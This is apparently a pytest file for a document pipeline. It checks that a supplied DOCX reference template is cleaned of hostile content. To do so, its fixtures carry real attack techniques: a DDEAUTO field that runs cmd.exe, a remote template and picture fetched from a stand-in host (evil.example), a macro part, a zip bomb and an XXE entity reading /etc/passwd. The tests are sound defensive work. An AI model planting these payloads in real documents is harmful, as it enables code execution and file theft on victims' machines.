"""A reference document is an input: only the parts a briefing needs reach
its DOCX, nothing points outside it, and a hostile or broken one is one
problem line. Each reference here is made from ours by editing its zip, as
an attacker (or a careless template) would."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from conftest import FIXTURES, ROOT, run_cli
from pipeline.render.docx import reference as cleaning

REFERENCE = ROOT / "templates" / "docx" / "reference.docx"
SOURCE = FIXTURES / "elements.md"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def edited(path: Path, changes: dict[str, bytes | None], level: int = zipfile.ZIP_DEFLATED) -> Path:
    """Our reference with parts replaced, added, or (None) removed."""
    with zipfile.ZipFile(REFERENCE) as ours, zipfile.ZipFile(path, "w", level) as theirs:
        for name in ours.namelist():
            if name not in changes:
                theirs.writestr(name, ours.read(name))
        for name, data in changes.items():
            if data is not None:
                theirs.writestr(name, data)
    return path


def part(name: str) -> str:
    with zipfile.ZipFile(REFERENCE) as ours:
        return ours.read(name).decode("utf-8")


def with_rels(rels: str, extra: str) -> bytes:
    return rels.replace("</Relationships>", extra + "</Relationships>").encode()


def hostile(tmp_path: Path) -> Path:
    """Macros, a template fetched on open, a header with a picture linked
    from a server, a field that includes a remote picture and one that runs
    a command, and a picture of its own (a logo) that may stay."""
    types = part("[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", MACROS)
    types = types.replace("</Types>",
                          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                          '<Default Extension="png" ContentType="image/png"/>'
                          '<Override PartName="/word/header9.xml" ContentType="application/vnd.openxml'
                          'formats-officedocument.wordprocessingml.header+xml"/></Types>')
    document_rels = with_rels(
        part("word/_rels/document.xml.rels"),
        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        f'Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdH9" Type="{OFFICE}/header" Target="header9.xml"/>'
        f'<Relationship Id="rIdWeb" Type="{OFFICE}/hyperlink" Target="https://evil.example/x" '
        f'TargetMode="External"/>')
    settings = part("word/settings.xml").replace(
        "<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT"/><w:linkStyles/><w:defaultTabStop', 1)
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{OFFICE}" ', 1)
    header = (f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
              f'xmlns:r="{OFFICE}"><w:p><w:hyperlink r:id="rIdL"><w:r><w:t>Our site</w:t></w:r>'
              '</w:hyperlink><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/p.png&quot; \\d ">'
              '<w:r><w:t>picture</w:t></w:r></w:fldSimple>'
              '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\'
              'system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '</w:p></w:hdr>')
    header_rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                   f'relationships"><Relationship Id="rIdL" Type="{OFFICE}/hyperlink" '
                   'Target="https://evil.example/" TargetMode="External"/>'
                   f'<Relationship Id="rIdP" Type="{OFFICE}/image" Target="media/logo.png"/></Relationships>')
    settings_rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                     f'relationships"><Relationship Id="rIdT" Type="{OFFICE}/attachedTemplate" '
                     'Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>')
    return edited(tmp_path / "hostile.docx", {
        "[Content_Types].xml": types.encode(),
        "word/_rels/document.xml.rels": document_rels,
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros" * 100,
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": settings_rels.encode(),
        "word/header9.xml": header.encode(),
        "word/_rels/header9.xml.rels": header_rels.encode(),
        "word/media/logo.png": (FIXTURES / "images" / "badge.png").read_bytes(),
    })


def test_only_the_parts_we_need_reach_the_docx(tmp_path: Path):
    reference = hostile(tmp_path)
    with zipfile.ZipFile(reference) as package:  # what it carries
        assert "word/vbaProject.bin" in package.namelist()
        assert b"attachedTemplate" in package.read("word/settings.xml")
    result = run_cli("build", SOURCE, "--to", "docx", "--out", tmp_path / "out",
                     "--reference-doc", reference)
    assert result.returncode == 0, result.stderr
    assert f"{reference}: warning: DOCX: left out of the reference document: " in result.stderr
    for what in ("macros (vbaProject.bin)", "an attached template", "fields that fetch or run something"):
        assert what in result.stderr
    with zipfile.ZipFile(tmp_path / "out" / "elements.docx") as package:
        names = package.namelist()
        texts = {name: package.read(name).decode("utf-8") for name in names
                 if name.endswith((".xml", ".rels"))}
    assert not [name for name in names if "vba" in name.lower() or name.endswith(".bin")]
    assert MACROS not in texts["[Content_Types].xml"] and "vbaProject" not in texts["[Content_Types].xml"]
    assert "attachedTemplate" not in texts["word/settings.xml"]
    assert "linkStyles" not in texts["word/settings.xml"]
    for name, text in texts.items():
        # Links outside: only the briefing's own, as hyperlinks (elements.md links nato.int).
        external = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', text)
        assert all(f'Type="{OFFICE}/hyperlink"' in rel for rel in external), name
        assert "evil.example" not in text, name
        assert not re.search(r"INCLUDEPICTURE|DDEAUTO", text), name


def test_the_document_reads_as_before_in_word_and_pandoc(tmp_path: Path):
    """What was taken out was never the document's: its text and styles
    read as with our own reference (openxml-audit checks it, as for every
    DOCX the tests build)."""
    from readers import docx_via_pandoc, pandoc_blocks, pandoc_text
    out = tmp_path / "out"
    assert run_cli("build", SOURCE, "--to", "docx", "--out", out / "theirs",
                   "--reference-doc", hostile(tmp_path)).returncode == 0
    assert run_cli("build", SOURCE, "--to", "docx", "--out", out / "ours").returncode == 0

    def paragraphs(path):
        return [pandoc_text(p["c"]) for p in pandoc_blocks(docx_via_pandoc(path), ("Para", "Header"))
                if p["t"] == "Para"]
    assert paragraphs(out / "theirs" / "elements.docx") == paragraphs(out / "ours" / "elements.docx")


def test_a_zip_bomb_is_refused_without_inflating_it(tmp_path: Path, monkeypatch):
    """styles.xml inflating to 40 MB (past the 32 MB limit for a part): it
    is read only as far as the limit. A bomb in a part we never need
    (a 300 MB vbaProject.bin in 300 KB) is never read at all."""
    bomb = part("word/styles.xml").replace("</w:styles>", " " * (40 * 2**20) + "</w:styles>")
    reference = edited(tmp_path / "bomb.docx", {"word/styles.xml": bomb.encode()})
    assert reference.stat().st_size < 2**20
    result = run_cli("build", SOURCE, "--to", "docx", "--out", tmp_path / "out", "--reference-doc", reference)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines()[0] == (
        f"{reference}: cannot use this reference document: its part /word/styles.xml is larger "
        "than 32 MB once inflated")
    assert not (tmp_path / "out" / "elements.docx").exists()

    types = part("[Content_Types].xml").replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    unread = edited(tmp_path / "unread.docx", {"word/vbaProject.bin": bytes(300 * 2**20),
                                               "[Content_Types].xml": types.encode()})
    assert unread.stat().st_size < 2**20
    log = tmp_path / "read.txt"  # the build runs in a forked process: what it read, said in a file
    original = cleaning.Package.part

    def part_read(self, name):
        with log.open("a", encoding="utf-8") as said:
            said.write(name + "\n")
        return original(self, name)
    monkeypatch.setattr(cleaning.Package, "part", part_read)
    cleaning.cached.cache_clear()
    result = run_cli("build", SOURCE, "--to", "docx", "--out", tmp_path / "out", "--reference-doc", unread)
    assert result.returncode == 0, result.stderr
    read = log.read_text(encoding="utf-8").split()
    assert "word/styles.xml" in read and "word/vbaProject.bin" not in read


@pytest.mark.parametrize("make, message", [
    (lambda path: path.write_bytes(b"PK\x03\x04 not really a zip" * 10), "it is not a DOCX (a zip of parts)"),
    (lambda path: path.write_bytes(REFERENCE.read_bytes()[:3000]), "it is not a DOCX (a zip of parts)"),
    (lambda path: edited(path, {"[Content_Types].xml": None}), "its part /[Content_Types].xml is missing"),
    (lambda path: edited(path, {"word/styles.xml": b"<w:styles"}), "its part /word/styles.xml is not well-formed XML"),
    (lambda path: edited(path, {"_rels/.rels": part("_rels/.rels").replace("officeDocument\"",
                                                                        "officeDocumentX\"").encode()}),
     "it has no main document"),
    (lambda path: edited(path, {"word/styles.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
                                                    b"<x>&a;</x>"}), "its part /word/styles.xml has a DOCTYPE"),
])
def test_a_malformed_reference_is_one_problem_line(tmp_path: Path, make, message):
    reference = tmp_path / "broken.docx"
    make(reference)
    result = run_cli("build", SOURCE, "--to", "docx", "--out", tmp_path / "out", "--reference-doc", reference)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert lines[0].startswith(f"{reference}: ") and len(lines) == 1
    assert lines[0].startswith(f"{reference}: cannot use this reference document: {message}")
    assert not (tmp_path / "out" / "elements.docx").exists()


def test_our_own_reference_comes_through_whole():
    """What the cleaning keeps of our reference is all of it: the parts,
    and each part's XML (so skipping it for ours changes nothing)."""
    cleaning.cached.cache_clear()
    cleaned = cleaning.cached(str(REFERENCE), 0, 0)
    assert cleaned.dropped == []
    with zipfile.ZipFile(REFERENCE) as ours, zipfile.ZipFile(io.BytesIO(cleaned.data)) as kept:
        assert sorted(kept.namelist()) == sorted(ours.namelist())
        for name in ours.namelist():
            if name != "[Content_Types].xml":
                assert etree.tostring(etree.fromstring(kept.read(name)), method="c14n") == \
                    etree.tostring(etree.fromstring(ours.read(name)), method="c14n"), name
